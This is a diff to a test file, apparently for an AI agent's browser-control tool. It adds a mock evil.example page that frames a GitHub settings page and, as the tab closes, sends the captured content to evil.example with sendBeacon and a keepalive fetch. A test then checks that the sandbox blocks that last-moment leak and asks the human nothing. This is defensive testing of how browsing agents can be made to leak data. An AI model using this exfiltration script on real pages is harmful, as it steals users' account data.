@@ -55,6 +55,20 @@ before(async () => {
             });
           </script>`,
         ),
+      // Frames the settings page, and sends what it shows as the tab closes.
+      '/leaving': (_req, _body, res) =>
+        html(
+          res,
+          `<title>Leaving</title><iframe src="${site.url('github.com', '/settings/profile')}"></iframe>
+          <script>
+            let seen = '';
+            addEventListener('message', (e) => { seen = e.data; });
+            addEventListener('pagehide', () => {
+              navigator.sendBeacon('https://evil.example:${site.port}/k?d=' + encodeURIComponent(seen), seen);
+              fetch('https://evil.example:${site.port}/k?f=' + encodeURIComponent(seen), { keepalive: true, mode: 'no-cors' });
+            });
+          </script>`,
+        ),
       // Frames the settings page at once and keeps sending what it shows to bank.evil.example, refused until the
       // agent inspects one of those requests.
       '/debug': (_req, _body, res) =>
@@ -124,6 +138,31 @@ test('a refused request the agent inspects does not open its host to what was re
     await mcp.call('get_network_request', { reqid });
     await pause(2_500);
     assert.deepEqual(received('bank.evil.example'), [], 'the marker reached bank.evil.example');
+  } finally {
+    await mcp.close();
+  }
+});
+
+test('closing the tab of a page that saw a sensitive read asks nothing and allows its site nothing', async () => {
+  const mcp: InProcessMcp = await tw.connect();
+  mcp.human.policy = () => ({ decision: 'approve' });
+  try {
+    await mcp.call('new_page', { url: site.url('github.com', '/settings/profile') });
+    assert.match((await mcp.call('take_snapshot')).text, new RegExp(marker));
+    const opened = await mcp.call('new_page', { url: site.url('evil.example', '/leaving') });
+    const tab = /Tab (p\d+)/.exec(opened.text)?.[1] ?? '';
+    await pause(1_000);
+    const asked = mcp.human.questions.length;
+    const closed = await mcp.call('close_page', { pageId: tab });
+    assert.equal(closed.isError, false, closed.text);
+    assert.deepEqual(
+      mcp.human.questions.slice(asked),
+      [],
+      'closing a tab is no question of where data may go',
+    );
+    await pause(1_500);
+    assert.deepEqual(received('evil.example'), [], 'the closing page had a last word');
+    assert.doesNotMatch((await mcp.call('browser_status')).text, /evil\.example/, 'its site was allowed');
   } finally {
     await mcp.close();
   }
